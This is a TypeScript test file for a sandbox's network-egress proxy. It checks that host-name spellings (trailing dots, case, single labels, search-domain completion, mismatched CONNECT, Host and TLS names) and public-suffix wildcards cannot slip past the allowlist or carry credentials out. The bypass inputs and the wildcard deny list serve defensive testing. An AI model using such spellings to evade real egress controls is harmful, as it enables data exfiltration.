/**
 * Names: how a host name in the policy, in the program's request and in the
 * resolver's answer could come to mean different hosts.
 *
 * 1. Public suffixes. A wildcard over a name anyone can register under
 *    (`*.vercel.app`, `*.github.io`, `*.co.uk`, and `*.amazonaws.com`, which
 *    covers `s3.amazonaws.com`) is an exfiltration channel its author did
 *    not mean: refused when the sandbox is created or its network policy
 *    updated, unless the policy says `allowPublicSuffixWildcards: true`.
 * 2. Search domains. A resolver completes a relative name with the
 *    `search` list of resolv.conf (Kubernetes: `ndots:5`, three domains), so
 *    an allowed `ghost.wild.test` could be answered as
 *    `ghost.wild.test.<search domain>`, another host. The injector looks
 *    every name up fully qualified; single-label policy entries (which only
 *    a search domain could complete) are refused. Proven in a namespace
 *    whose resolv.conf and DNS server the test controls.
 * 3. Spellings. A trailing dot, letter case or a dangling label must not
 *    dodge an entry, and the CONNECT host, the Host header and the TLS name
 *    are compared in one canonical form (invariant 3).
 */

import assert from "node:assert/strict";
import { PolicyError, Sandbox } from "../../mod.ts";
import type { EgressEvent, PolicyInput } from "../../mod.ts";
import { RAW_PROXY_PRELUDE } from "../kits/upstreams.ts";
import {
  basePolicy,
  Corpus,
  type Fixtures,
  HOSTS,
  seenWith,
  statusLine,
  valueOf,
} from "./_corpus.ts";
import {
  namespaceUnavailable,
  runInResolverNamespace,
  type Zone,
} from "./_dns_namespace.ts";

/** A public-suffix host the opt-in batch reaches (a local upstream). */
const STRANGER = "stranger.vercel.app";

const corpus = new Corpus("names", {
  setup: async (fx) => {
    await fx.ups.add({ name: STRANGER });
  },
});

interface Raw {
  connectReply: string | null;
  response: string;
  responses: string[];
}

const lit = (text: string) => JSON.stringify(text);

// --- 3. Spellings --------------------------------------------------------

/** CONNECT to a spelling of a name the policy does not allow: 403. */
function connectRefused(
  id: string,
  title: string,
  authority: string,
  audited: { host: string; port: number },
) {
  corpus.add({
    id,
    title,
    code: `return await rawProxy(${
      lit(`GET /${id} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`)
    }, { connect: ${lit(authority)} });`,
    expect: (v) => {
      const raw = valueOf<Raw>(v);
      assert.equal(statusLine(raw.connectReply), 403, raw.connectReply ?? "");
      assert.equal(raw.response, "", "nothing after the refusal");
      assert.deepEqual(seenWith(v.fx, id), []);
    },
    audit: { injector: { kind: "connect", ...audited, status: 403 } },
  });
}

connectRefused(
  "nm-001",
  "trailing-dot spelling of a host the policy does not allow",
  "evil.attack.test.:443",
  { host: "evil.attack.test", port: 443 },
);
connectRefused(
  "nm-002",
  "a single label a search domain would complete to an allowed host",
  "echo:443",
  { host: "echo", port: 443 },
);
connectRefused(
  "nm-003",
  "an allowed name cut short, for a search domain to complete",
  "other.attack:443",
  { host: "other.attack", port: 443 },
);
connectRefused(
  "nm-004",
  "the search-domain spelling of an allowed name",
  "other.attack.test.cluster.local:443",
  { host: "other.attack.test.cluster.local", port: 443 },
);

corpus.add({
  id: "nm-005",
  title: "absolute-form request to a denied host with a trailing dot",
  code: `return await rawProxy(${
    lit(
      "GET http://Evil.Attack.Test./nm-005 HTTP/1.1\r\nHost: Evil.Attack.Test.\r\n\r\n",
    )
  });`,
  expect: (v) => {
    const raw = valueOf<Raw>(v);
    assert.equal(statusLine(raw.response), 403, raw.response);
    assert.deepEqual(seenWith(v.fx, "nm-005"), []);
  },
  audit: {
    injector: { host: "evil.attack.test", path: "/nm-005", status: 403 },
  },
});

corpus.add({
  id: "nm-006",
  title: "two trailing dots (an empty label) in the CONNECT host",
  code: `return await rawProxy(${
    lit("GET /nm-006 HTTP/1.1\r\nHost: echo.attack.test\r\n\r\n")
  }, { connect: "echo.attack.test..:443" });`,
  expect: (v) => {
    const raw = valueOf<Raw>(v);
    const status = statusLine(raw.connectReply);
    assert.ok(status === 400 || status === 403, raw.connectReply ?? "");
    assert.equal(raw.response, "");
    assert.deepEqual(seenWith(v.fx, "nm-006"), []);
  },
  audit: { injector: { kind: "connect", port: 443 } },
});

corpus.add({
  id: "nm-007",
  title:
    "Host header spelling the credentialed host with a trailing dot inside a tunnel to another host",
  code: `return await rawProxy(${
    lit("GET /nm-007 HTTP/1.1\r\nHost: ECHO.attack.test.\r\n\r\n")
  }, { connect: "other.attack.test:443", tls: "other.attack.test" });`,
  expect: (v) => {
    const raw = valueOf<Raw>(v);
    assert.equal(statusLine(raw.connectReply), 200);
    assert.equal(statusLine(raw.response), 421, raw.response);
    assert.deepEqual(seenWith(v.fx, "nm-007"), []);
  },
  audit: {
    injector: {
      host: "other.attack.test",
      path: "/nm-007",
      rule: "misdirected",
      status: 421,
      injected: [],
    },
  },
});

corpus.add({
  id: "nm-008",
  title:
    "tunnel opened with a trailing dot to the credentialed host, Host naming another host",
  code: `return await rawProxy(${
    lit("GET /nm-008 HTTP/1.1\r\nHost: other.attack.test\r\n\r\n")
  }, { connect: "echo.attack.test.:443", tls: "echo.attack.test" });`,
  expect: (v) => {
    const raw = valueOf<Raw>(v);
    assert.equal(statusLine(raw.connectReply), 200);
    assert.equal(statusLine(raw.response), 421, raw.response);
    assert.deepEqual(seenWith(v.fx, "nm-008"), []);
  },
  audit: {
    injector: {
      host: "echo.attack.test",
      path: "/nm-008",
      rule: "misdirected",
      status: 421,
    },
  },
});

corpus.add({
  id: "nm-009",
  title: "TLS name with a trailing dot naming another host than the tunnel's",
  code: `const net = (await import("node:net")).default;
    const tls = (await import("node:tls")).default;
    const s = net.connect(3128, "127.0.0.1");
    await new Promise((r, j) => { s.once("connect", r); s.once("error", j); });
    s.write("CONNECT other.attack.test:443 HTTP/1.1\\r\\nHost: other.attack.test:443\\r\\n\\r\\n");
    const connectReply = await new Promise((r) => s.once("data", (d) => r(String(d))));
    const t = tls.connect({ socket: s, servername: "echo.attack.test.", rejectUnauthorized: false });
    await new Promise((r, j) => { t.once("secureConnect", r); t.once("error", j); });
    let received = "";
    t.on("data", (d) => received += d);
    t.on("error", () => {});
    t.write("GET /nm-009 HTTP/1.1\\r\\nHost: other.attack.test\\r\\n\\r\\n");
    // Polls for the response until 8 s (inside the case's 10 s timeout; 3 s
    // is tight on a loaded machine).
    for (const end = Date.now() + 8_000; Date.now() < end && !/HTTP\\/1\\.1 \\d{3}/.test(received);) await new Promise((r) => setTimeout(r, 10));
    t.destroy(); s.destroy();
    return { connectReply, received };`,
  expect: (v) => {
    const got = valueOf<{ connectReply: string; received: string }>(v);
    assert.equal(statusLine(got.connectReply), 200);
    assert.equal(statusLine(got.received), 421, got.received);
    assert.deepEqual(seenWith(v.fx, "nm-009"), []);
  },
  audit: {
    injector: {
      host: "other.attack.test",
      path: "/nm-009",
      rule: "misdirected",
      status: 421,
    },
  },
});

corpus.add({
  id: "nm-010",
  title:
    "control: every spelling of one allowed host (trailing dot, case) is that host, and only it",
  code: `return await rawProxy(${
    lit(
      "GET /nm-010-ok HTTP/1.1\r\nHost: Other.Attack.Test.\r\nConnection: close\r\n\r\n",
    )
  }, { connect: "OTHER.attack.test.:443", tls: "other.attack.test" });`,
  expect: (v) => {
    const raw = valueOf<Raw>(v);
    assert.equal(statusLine(raw.connectReply), 200);
    assert.equal(statusLine(raw.response), 200, raw.response);
    const seen = seenWith(v.fx, "nm-010");
    assert.deepEqual(seen.map((s) => s.path), ["/nm-010-ok"]);
    assert.ok(
      v.fx.ups.servers(HOSTS.other).some((u) => u.seen.includes(seen[0]!)),
      "served by the other.attack.test upstream",
    );
  },
  audit: {
    injector: {
      host: "other.attack.test",
      path: "/nm-010-ok",
      status: 200,
      injected: [],
      decisions: ["allow"],
    },
  },
});

// --- 1. Public suffixes: the opt-in is the only way -----------------------

corpus.batch("opt-in", {
  policy: (fx) => optInPolicy(fx),
});

function optInPolicy(fx: Fixtures): PolicyInput {
  const base = basePolicy(fx);
  const network = base.network as { allow: Record<string, unknown> };
  return {
    ...base,
    network: {
      allow: { ...network.allow, [`*.vercel.app`]: [] },
      allowPublicSuffixWildcards: true,
    } as PolicyInput["network"],
  };
}

corpus.add({
  id: "nm-011",
  batch: "opt-in",
  title:
    "control: with allowPublicSuffixWildcards the program reaches a stranger's host under the suffix",
  code: `const r = await fetch("https://${STRANGER}/nm-011-ok");
    return { status: r.status, body: (await r.text()).slice(0, 200) };`,
  expect: (v) => {
    const got = valueOf<{ status: number }>(v);
    assert.equal(got.status, 200);
    assert.deepEqual(seenWith(v.fx, "nm-011").map((s) => s.path), [
      "/nm-011-ok",
    ]);
  },
  audit: {
    injector: {
      host: STRANGER,
      path: "/nm-011-ok",
      rule: "*.vercel.app",
      status: 200,
      injected: [],
      decisions: ["allow"],
    },
  },
});

corpus.add({
  id: "nm-012",
  batch: "opt-in",
  title:
    "the opt-in never carries a credential to the stranger (no rule, no placeholder)",
  code: `const r = await fetch("https://${STRANGER}/nm-012", {
      headers: { authorization: "Bearer " + Deno.env.get("PH_TOKEN") },
    });
    return { status: r.status };`,
  expect: (v) => {
    valueOf(v);
    const seen = seenWith(v.fx, "nm-012");
    assert.equal(seen.length, 1);
    // The placeholder went out unswapped: its real value is for echo only.
    assert.match(
      seen[0]!.headers.find(([n]) => n === "authorization")?.[1] ?? "",
      /airlock-placeholder-PH_TOKEN-/,
    );
  },
  audit: {
    injector: {
      host: STRANGER,
      path: "/nm-012",
      placeholders: [],
      injected: [],
      decisions: ["allow"],
    },
  },
});

corpus.register();

// --- 1. Public suffixes: refused at create and at update ----------------

/** Wildcards a policy author might write, each over a public suffix. */
const PUBLIC_SUFFIX_WILDCARDS = [
  "*.vercel.app",
  "*.github.io",
  "*.s3.amazonaws.com",
  "*.co.uk",
  "*.amazonaws.com", // covers s3.amazonaws.com: every bucket
  "*.herokuapp.com",
  "*.pages.dev",
  "*.blogspot.com",
  "*.com.au",
  "*.azurewebsites.net",
  "*.Vercel.APP.",
  "*.vercel.app:443",
  "*.公司.cn",
];

async function createRefused(
  policy: PolicyInput,
  path: string,
  pattern: RegExp,
): Promise<void> {
  const error = await Sandbox.create({ policy }).then(
    async (sandbox) => {
      await sandbox.close();
      return null;
    },
    (e: unknown) => e,
  );
  assert.ok(
    error instanceof PolicyError,
    `${JSON.stringify(policy)}: ${error}`,
  );
  const issue = error.issues.find((i) => i.path === path);
  assert.ok(issue, `no issue at ${path}: ${error.message}`);
  assert.match(issue.message, pattern, path);
}

Deno.test("names: a wildcard over a public suffix is refused at Sandbox.create, by path, naming the opt-in", async () => {
  for (const pattern of PUBLIC_SUFFIX_WILDCARDS) {
    await createRefused(
      { network: { allow: ["api.example.com", pattern] } },
      "network.allow.1",
      /public suffix[^]*allowPublicSuffixWildcards: true/,
    );
    await createRefused(
      { network: { allow: { [pattern]: [] } } },
      `network.allow.${pattern}`,
      /public suffix/,
    );
  }
});

Deno.test("names: a placeholder secret is never bound to a public-suffix wildcard, not even with the opt-in", async () => {
  for (const pattern of ["*.vercel.app", "*.amazonaws.com"]) {
    await createRefused(
      {
        network: {
          allow: [pattern],
          allowPublicSuffixWildcards: true,
        },
        secrets: {
          TOKEN: { hosts: [pattern], value: "a-long-enough-secret" },
        },
      },
      "secrets.TOKEN.hosts.0",
      /public suffix/,
    );
  }
});

Deno.test("names: a live network update to a public-suffix wildcard is refused and the policy in force stays", async () => {
  await using sandbox = await Sandbox.create({
    policy: { network: { allow: ["api.example.com"] } },
  });
  for (const pattern of ["*.github.io", "*.amazonaws.com"]) {
    await assert.rejects(
      sandbox.updateNetworkPolicy({ allow: [pattern] }),
      (error: Error) => {
        assert.ok(error instanceof PolicyError, String(error));
        assert.match(error.message, /network\.allow\.0: .*public suffix/);
        return true;
      },
    );
  }
  assert.deepEqual(sandbox.networkPolicy, { allow: ["api.example.com"] });
  const run = await sandbox.run({ code: "console.log(6 * 7);" });
  assert.equal(run.stdout, "42\n");
});

Deno.test("names: single-label entries other than localhost are refused in the network policy and for secrets", async () => {
  for (const pattern of ["intranet", "metadata", "db:5432", "Kubernetes."]) {
    await createRefused(
      { network: { allow: [pattern] } },
      "network.allow.0",
      /single label.*fully qualified name/,
    );
  }
  await createRefused(
    {
      network: { allow: ["api.example.com"] },
      secrets: { TOKEN: { hosts: ["vault"], value: "a-long-enough-secret" } },
    },
    "secrets.TOKEN.hosts.0",
    /single label/,
  );
  // localhost stays allowed (it never reaches DNS).
  await using sandbox = await Sandbox.create({
    policy: { network: { allow: ["localhost:8080"] } },
  });
  assert.ok(sandbox.id);
});

// --- 2. Search domains, in a resolver world the test controls ------------

const unavailable = await namespaceUnavailable();

/** The DNS server's zone: each name's search-domain spelling answers 10.77.0.2. */
const ZONE: Zone = {
  "api.allowed.test.": ["10.77.0.1"],
  "api.allowed.test.corp.test.": ["10.77.0.2"],
  "ghost.wild.test.corp.test.": ["10.77.0.2"],
  "deep.a.b.c.wild.test.corp.test.": ["10.77.0.2"],
  "intranet.corp.test.": ["10.77.0.2"],
  "listed.allowed.test.corp.test.": ["10.77.0.2"],
};

const RESOLVER_FILES = {
  // As in a Kubernetes pod: names with fewer than five dots try the search
  // domains first.
  resolvConf:
    "nameserver 127.0.0.1\nsearch corp.test\noptions ndots:5 timeout:1 attempts:1\n",
  hosts: "127.0.0.1 localhost\n10.77.0.1 listed.allowed.test\n",
};

const CHILD = new URL("./_names_namespace_child.ts", import.meta.url).pathname;

type Looked = { addresses: string[] | string; queries: string[] };

Deno.test({
  name:
    "names: the injector's resolver never applies search domains (resolv.conf search + ndots:5, a DNS server the test runs)",
  ignore: unavailable !== null,
  fn: async () => {
    const names = [
      "api.allowed.test",
      "ghost.wild.test",
      "deep.a.b.c.wild.test",
      "intranet",
      "listed.allowed.test",
    ];
    const { report } = await runInResolverNamespace(CHILD, RESOLVER_FILES, {
      zone: ZONE,
      names,
      control: ["api.allowed.test", "ghost.wild.test"],
    });
    const resolver = report.resolver as Record<string, Looked>;
    const control = report.control as Record<string, Looked>;
    // Control: a relative lookup in this world lands on the other host, so
    // the test can fail.
    assert.deepEqual(control["api.allowed.test"]!.addresses, ["10.77.0.2"]);
    assert.deepEqual(control["ghost.wild.test"]!.addresses, ["10.77.0.2"]);
    // airlock: the name itself, or nothing.
    assert.deepEqual(resolver["api.allowed.test"]!.addresses, ["10.77.0.1"]);
    for (
      const name of ["ghost.wild.test", "deep.a.b.c.wild.test", "intranet"]
    ) {
      assert.match(String(resolver[name]!.addresses), /^error: /, name);
    }
    // The hosts file still counts, without asking DNS.
    assert.deepEqual(resolver["listed.allowed.test"]!.addresses, [
      "10.77.0.1",
    ]);
    assert.deepEqual(resolver["listed.allowed.test"]!.queries, []);
    // The DNS server was only ever asked the names themselves.
    for (const name of names) {
      for (const query of resolver[name]!.queries) {
        assert.ok(query.endsWith(` ${name}.`), `${name}: asked ${query}`);
      }
    }
  },
});

Deno.test({
  name:
    "names: a sandboxed program reaches the host its allowed name means, never a search-domain host (end to end)",
  ignore: unavailable !== null,
  fn: async () => {
    const request = (host: string, path: string) =>
      `GET http://${host}${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
    const attempts: Record<string, string> = {
      e1: request("api.allowed.test", "/e1"),
      e2: request("api.allowed.test.", "/e2"),
      e3: request("ghost.wild.test", "/e3"),
      e4: request("deep.a.b.c.wild.test", "/e4"),
      e5: request("listed.allowed.test", "/e5"),
    };
    const code = `${RAW_PROXY_PRELUDE}
      const out = {};
      for (const [id, text] of Object.entries(${JSON.stringify(attempts)})) {
        out[id] = (await rawProxy(text)).response.split("\\r\\n")[0];
      }
      out.e6 = (await rawProxy("GET /e6 HTTP/1.1\\r\\nHost: intranet\\r\\n\\r\\n", { connect: "intranet:80" })).connectReply.split("\\r\\n")[0];
      console.log(JSON.stringify(out));`;
    const { report } = await runInResolverNamespace(CHILD, RESOLVER_FILES, {
      zone: ZONE,
      names: [],
      control: [],
      sandbox: {
        policy: {
          network: {
            allow: [
              "api.allowed.test",
              "*.wild.test",
              "listed.allowed.test",
            ],
            subnets: { allow: ["10.77.0.0/24"] },
          },
        },
        code,
      },
    });
    const sandbox = report.sandbox as {
      reason: string;
      stdout: string;
      stderr: string;
      egress: EgressEvent[];
      queries: string[];
      seen: Record<string, { host: string; path: string }[]>;
    };
    assert.equal(sandbox.reason, "exit", sandbox.stderr);
    const out = JSON.parse(sandbox.stdout) as Record<string, string>;
    assert.match(out.e1!, / 200 /);
    assert.match(out.e2!, / 200 /, "a trailing dot is the same host");
    assert.match(out.e3!, / 502 /, "no such name: no other host instead");
    assert.match(out.e4!, / 502 /);
    assert.match(out.e5!, / 200 /, "the hosts file counts");
    assert.match(out.e6!, / 403 /, "a single label is not in any allowlist");
    // Contained: the search-domain host saw nothing; the meant host saw
    // exactly the allowed requests.
    assert.deepEqual(sandbox.seen["10.77.0.2"], []);
    assert.deepEqual(
      sandbox.seen["10.77.0.1"]!.map((s) => s.path),
      ["/e1", "/e2", "/e5"],
    );
    for (const query of sandbox.queries) {
      assert.doesNotMatch(query, /corp\.test\.$/, `asked ${query}`);
    }
    // Audited: each failure is an injector record naming the canonical host.
    const byPath = (path: string) =>
      sandbox.egress.find((e) => e.path === path);
    assert.equal(byPath("/e2")?.host, "api.allowed.test");
    assert.equal(byPath("/e3")?.decision, "error");
    assert.equal(byPath("/e3")?.status, 502);
    assert.equal(byPath("/e4")?.decision, "error");
    assert.ok(
      sandbox.egress.some((e) =>
        e.host === "intranet" && e.decision === "deny" && e.status === 403
      ),
      JSON.stringify(sandbox.egress),
    );
    // Healthy: the harness in the namespace still runs a fresh sandbox.
    assert.deepEqual(report.health, { reason: "exit", stdout: "42\n" });
  },
});
